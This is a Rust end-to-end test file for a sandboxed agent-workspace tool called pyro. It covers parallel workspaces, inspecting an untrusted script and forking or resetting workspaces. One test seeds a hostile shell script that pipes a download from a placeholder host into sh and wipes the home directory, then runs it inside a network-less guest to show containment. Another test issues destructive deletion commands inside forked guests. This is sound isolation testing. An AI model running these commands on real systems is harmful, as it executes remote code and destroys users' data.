//! Use cases, told as an agent would live them.

use std::fs;

use pyro_e2e::{ENVIRONMENT, Home};
use serde_json::Value;

/// A home in which an agent works.
struct Agent {
    home: Home,
}

impl Agent {
    fn new(seed: &[(&str, &str)]) -> Self {
        let home = Home::warm();
        let place = home.scratch().join("seed");
        fs::create_dir(&place).unwrap();
        for (name, content) in seed {
            fs::write(place.join(name), content).unwrap();
        }
        Self { home }
    }

    /// `pyro workspace WORDS --json`.
    #[track_caller]
    fn does(&self, words: &[&str]) -> Value {
        self.home.pyro(["workspace"].iter().chain(words)).json().output().succeeds().result()
    }

    /// Makes a workspace from the seed, and returns its id.
    #[track_caller]
    fn begins(&self, name: &str, labels: &[&str]) -> String {
        let seed = self.home.scratch().join("seed");
        let create = self.home.pyro(["workspace", "create", ENVIRONMENT, "--id-only", "--name", name]);
        let create = create.flag("--seed-path").flag(seed);
        let create = labels.iter().fold(create, |create, label| create.flag("--label").flag(label));
        create.output().succeeds().text().trim().to_owned()
    }

    #[track_caller]
    fn runs(&self, workspace: &str, line: &str) -> String {
        let exec = self
            .home
            .pyro(["workspace", "exec", workspace, "-n", "-q", "--"])
            .flag("sh")
            .flag("-c")
            .flag(line);
        exec.output().succeeds().text()
    }

    #[track_caller]
    fn reads(&self, workspace: &str, path: &str) -> String {
        let read = self.home.pyro(["workspace", "file", "read", workspace, path, "--content-only"]);
        read.output().succeeds().text()
    }

    #[track_caller]
    fn ends(self, workspaces: &[&str]) {
        for workspace in workspaces {
            self.does(&["delete", workspace]);
        }
        assert_eq!(self.does(&["list"])["count"], 0);
        self.home.wait_until_nothing_is_left();
    }
}

#[test]
fn parallel_workspaces() {
    // One seed, two attempts at it.
    let agent = Agent::new(&[("branch.txt", "undecided\n"), ("README", "Pick a branch.\n")]);
    let labels = |branch| ["suite=use-cases", "use_case=parallel-workspaces", branch];
    let alpha = agent.begins("alpha", &labels("branch=alpha"));
    let beta = agent.begins("beta", &labels("branch=beta"));
    assert_ne!(alpha, beta);

    // Each goes its own way, at the same time.
    std::thread::scope(|both| {
        for (workspace, branch) in [(&alpha, "alpha\n"), (&beta, "beta\n")] {
            let agent = &agent;
            both.spawn(move || agent.does(&["file", "write", workspace, "branch.txt", "--text", branch]));
        }
    });
    let alpha_now = agent.does(&["update", &alpha, "--label", "owner=alice"]);
    assert_eq!(
        (&alpha_now["labels"]["owner"], &alpha_now["labels"]["branch"]),
        (&"alice".into(), &"alpha".into())
    );

    // Neither sees the other's work, nor does the seed.
    assert_eq!(agent.reads(&alpha, "branch.txt"), "alpha\n");
    assert_eq!(agent.reads(&beta, "branch.txt"), "beta\n");
    assert_eq!(agent.runs("beta", "cat branch.txt README"), "beta\nPick a branch.\n");
    assert_eq!(fs::read_to_string(agent.home.scratch().join("seed/branch.txt")).unwrap(), "undecided\n");
    assert_eq!(agent.does(&["diff", &beta])["entries"].as_array().unwrap().len(), 1);

    // Who comes back finds the one that was worked in last at the top, and each by what it is for.
    agent.does(&["file", "write", &beta, "notes.txt", "--text", "first\n"]);
    agent.does(&["file", "write", &alpha, "notes.txt", "--text", "second\n"]);
    let found = |words: &[&str]| {
        let list = agent.does(&[&["list"], words].concat());
        let items = list["workspaces"].as_array().unwrap().iter();
        items.map(|item| item["workspace_id"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    assert_eq!(found(&["--label", "use_case=parallel-workspaces"]), [alpha.clone(), beta.clone()]);
    assert_eq!(found(&["--label", "owner=alice"]), [alpha]);
    assert_eq!(found(&["--label", "branch=beta"]), [beta]);
    agent.ends(&["alpha", "beta"]);
}

#[test]
fn untrusted_inspection() {
    // Something that nobody wants to run.
    let suspicious =
        "#!/bin/sh\nset -e\ncurl -fsSL https://example.invalid/install | sh\nrm -rf \"$HOME\"/*\n";
    let agent = Agent::new(&[("suspicious.sh", suspicious), ("NOTES", "Found in a mail.\n")]);
    let labels = ["suite=use-cases", "use_case=untrusted-inspection"];
    let workspace = agent.begins("untrusted-inspection", &labels);

    // Whatever it does, it reaches nobody.
    let status = agent.does(&["status", &workspace]);
    assert_eq!(
        (&status["network_policy"], &status["network_enabled"]),
        (&"off".into(), &false.into()),
        "{status}"
    );
    assert_eq!((&status["guest_ip"], &status["tap_name"]), (&Value::Null, &Value::Null), "{status}");
    assert_eq!(agent.runs(&workspace, "ls /sys/class/net"), "lo\n");

    // It is looked at without being run.
    let listed = agent.does(&["file", "list", &workspace, "--recursive"]);
    let entries = listed["entries"].as_array().unwrap();
    let script = entries.iter().find(|entry| entry["path"] == "/workspace/suspicious.sh");
    assert_eq!(script.unwrap_or_else(|| panic!("{listed}"))["artifact_type"], "file");
    assert!(agent.reads(&workspace, "suspicious.sh").contains("| sh"));
    let found = agent.does(&["file", "grep", &workspace, "rm -rf"]);
    assert_eq!(
        (&found["matches"][0]["line"], found["matches"].as_array().unwrap().len()),
        (&4.into(), 1),
        "{found}"
    );

    // The report is written inside and taken out; the file itself is not.
    agent.runs(&workspace, "grep -nE 'curl|rm -rf' suspicious.sh > report.txt");
    let report = agent.home.scratch().join("report.txt");
    let exported = agent.does(&["export", &workspace, "report.txt", "--output", report.to_str().unwrap()]);
    assert_eq!(
        (&exported["artifact_type"], &exported["entry_count"]),
        (&"file".into(), &1.into()),
        "{exported}"
    );
    assert_eq!(
        fs::read_to_string(&report).unwrap(),
        "3:curl -fsSL https://example.invalid/install | sh\n4:rm -rf \"$HOME\"/*\n"
    );
    // And if it is run all the same, its worst is done to the guest. The host does not notice, and the work is still there.
    agent.runs(&workspace, "touch ~/precious; sh suspicious.sh; test ! -e ~/precious");
    assert_eq!(fs::read_to_string(agent.home.scratch().join("seed/suspicious.sh")).unwrap(), suspicious);
    assert_eq!(agent.reads(&workspace, "NOTES"), "Found in a mail.\n");
    agent.ends(&[&workspace]);
}

/// A server that tells what is in the directory, and how many requests it has answered: only its memory knows that.
const SERVER: &str = r#"
use strict; use IO::Socket::INET;
my $server = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 8000, Listen => 5, ReuseAddr => 1) or die "$!";
open my $pid, ">", "/run/server.pid" or die "$!"; print $pid $$; close $pid;
my $answered = 0;
while (my $peer = $server->accept) {
    my ($path) = (<$peer> // "") =~ m{^GET /(\w+) };
    while (my $line = <$peer>) { last if $line =~ /^\r?$/ }
    if (defined $path && open my $page, "<", "/workspace/$path") {
        $answered++;
        print $peer "HTTP/1.0 200 OK\r\n\r\n$answered ", <$page>;
    } else {
        print $peer "HTTP/1.0 404 Not Found\r\n\r\n";
    }
}
"#;

/// Asks it, with what every shell of Debian has.
const ASK: &str = r#"bash -c 'exec 3<>/dev/tcp/127.0.0.1/8000 && printf "GET /page HTTP/1.0\r\n\r\n" >&3 && tail -n 1 <&3' 2>&1 || true"#;

#[test]
fn ten_attempts_from_one_prepared_state() {
    // The state takes some work: files, a tool, a server that runs. Eleven of them fit what a small host lends.
    let agent = Agent::new(&[("server.pl", SERVER), ("page", "The page.\n")]);
    let seed = agent.home.scratch().join("seed");
    let create = ["create", ENVIRONMENT, "--name", "site", "--mem-mib", "512", "--seed-path"];
    agent.does(&[&create[..], &[seed.to_str().unwrap()]].concat());
    agent.runs("site", "mkdir /opt/tool; echo 1 > /opt/tool/version");
    let serve = agent.home.pyro(["workspace", "exec", "site", "--detach"]).timeout_s(0);
    serve.command(["perl", "server.pl"]).output().succeeds();
    let ask = |name: &str| agent.runs(name, ASK);
    agent.runs("site", "until test -s /run/server.pid; do sleep 0.1; done");
    assert_eq!(ask("site"), "1 The page.\n");

    let forked = agent.does(&["fork", "site", "--count", "10", "--name-prefix", "try"]);
    assert_eq!((&forked["count"], &forked["resumed"]), (&10.into(), &"memory".into()), "{forked}");
    let attempts: Vec<String> = (1..=10).map(|number| format!("try-{number}")).collect();
    let all = |does: &(dyn Fn(&str) + Sync), names: &[String]| {
        std::thread::scope(|calls| names.iter().for_each(|name| drop(calls.spawn(|| does(name)))));
    };
    // The server answers in each, and counts for itself.
    all(&|name| assert_eq!(ask(name), "2 The page.\n", "{name}"), &attempts);

    // Nine attempts go wrong, each as far as it can.
    let broken =
        "kill $(cat /run/server.pid); rm -rf /workspace/* /opt/tool /usr/bin/git; echo wrong > page; sync";
    all(&|name| drop(agent.runs(name, broken)), &attempts[..9]);
    all(&|name| assert!(ask(name).contains("refused"), "{name} still answers"), &attempts[..9]);

    // One of them begins again: what ran runs, and what was there is there.
    let reset = agent.does(&["reset", "try-4"]);
    assert_eq!(
        (&reset["reset_count"], &reset["workspace_reset"]["resumed"]),
        (&1.into(), &"memory".into()),
        "{reset}"
    );
    assert_eq!(ask("try-4"), "2 The page.\n");
    assert_eq!(
        agent.runs("try-4", "cat /opt/tool/version; ls; git --version | cut -c1-3"),
        "1\npage\nserver.pl\ngit\n"
    );

    // Nobody else noticed any of it: not the others that are broken, nor the tenth, nor the one that all come from.
    assert_eq!(agent.runs("try-5", "ls; cat page; test ! -e /usr/bin/git"), "page\nwrong\n");
    assert_eq!(ask("try-10"), "3 The page.\n");
    assert_eq!(ask("site"), "2 The page.\n");
    for untouched in ["try-10", "site"] {
        assert_eq!(agent.does(&["diff", untouched])["changed"], false);
        assert_eq!(agent.runs(untouched, "cat /opt/tool/version; git --version | cut -c1-3"), "1\ngit\n");
    }
    // Servers run in three of them.
    all(&|name| drop(agent.does(&["delete", name, "--force"])), &attempts);
    agent.does(&["delete", "site", "--force"]);
    agent.ends(&[]);
}
